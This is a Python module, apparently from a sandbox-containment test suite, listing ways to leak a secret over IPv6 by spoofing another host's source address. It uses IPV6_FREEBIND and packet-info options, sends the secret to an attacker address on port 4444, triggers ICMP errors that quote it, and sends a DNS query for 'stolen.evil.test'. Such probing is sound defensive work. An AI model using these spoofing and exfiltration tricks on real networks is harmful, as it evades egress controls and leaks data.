"""Packets in the name of somebody else, which any user may send over IPv6."""

IPV6_FREEBIND, IP_TRANSPARENT, IPV6_TRANSPARENT = 78, 19, 75
# Others may answer from there: it was listened on before, and is shared.
LISTENED, FOREIGN_PORT = 5005, 4545
NOWHERE = "2001:db8:2::99"


def bound(scene, address, port, kind=socket.SOCK_DGRAM):
    made = scene.socket(kind)
    made.settimeout(0.2)
    made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    made.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
    made.bind((address, port))
    return made


def answer(scene, own):
    """What leaves as if it were an answer."""
    attempt(own.recvfrom, 100)
    for _ in range(2):
        attempt(own.sendto, SECRET, (scene.target, FOREIGN_PORT))


@way("an answer to oneself, who was bound to another's address", ("run",), (V6,))
def freebind(scene):
    own = bound(scene, scene.own, LISTENED)
    liar = bound(scene, scene.target, FOREIGN_PORT)
    attempt(liar.sendto, b"speak", (scene.own, LISTENED))
    answer(scene, own)


@way("an answer to oneself, who named another's address", ("run",), (V6,))
def named(scene):
    own = bound(scene, scene.own, LISTENED)
    liar = bound(scene, "", FOREIGN_PORT)
    info = struct.pack("=16si", packed(scene.target), 0)
    about = [(socket.IPPROTO_IPV6, IPV6_PKTINFO, info)]
    attempt(liar.sendmsg, [b"speak"], about, 0, (scene.own, LISTENED))
    answer(scene, own)


@way("an answer to a connection of oneself, who was bound to another's address", ("run",), (V6,), command=False)
def stream(scene):
    own = bound(scene, scene.own, scene.port, socket.SOCK_STREAM)
    own.listen()
    liar = bound(scene, scene.target, FOREIGN_PORT, socket.SOCK_STREAM)
    attempt(liar.connect, (scene.own, scene.port))


@way("an error about what another would have sent", families=(V6,))
def error(scene):
    """The refusal goes to whom the sender names, and quotes what was sent."""
    liar = bound(scene, scene.target, FOREIGN_PORT)
    for address in (NOWHERE, scene.allowed, ATTACKER[V6]):
        attempt(liar.sendto, SECRET * 20, (address, 4444))


@way("an error about what another would have sent to a closed port here", ("run",), (V6,))
def closed(scene):
    liar = bound(scene, scene.target, FOREIGN_PORT)
    for port in (9, LISTENED + 7):
        attempt(liar.sendto, SECRET * 20, (scene.own, port))


@way("a connection in another's name", families=(V6,))
def connect(scene):
    liar = bound(scene, scene.target, FOREIGN_PORT, socket.SOCK_STREAM)
    attempt(liar.connect, (NOWHERE, 443))
    attempt(liar.close)


@way("a question in another's name", families=(V6,))
def question(scene):
    """The refusal of a name would go to whom the sender names."""
    liar = bound(scene, scene.target, FOREIGN_PORT)
    attempt(liar.sendto, query("stolen.evil.test"), (RESOLVERS[V6], 53))
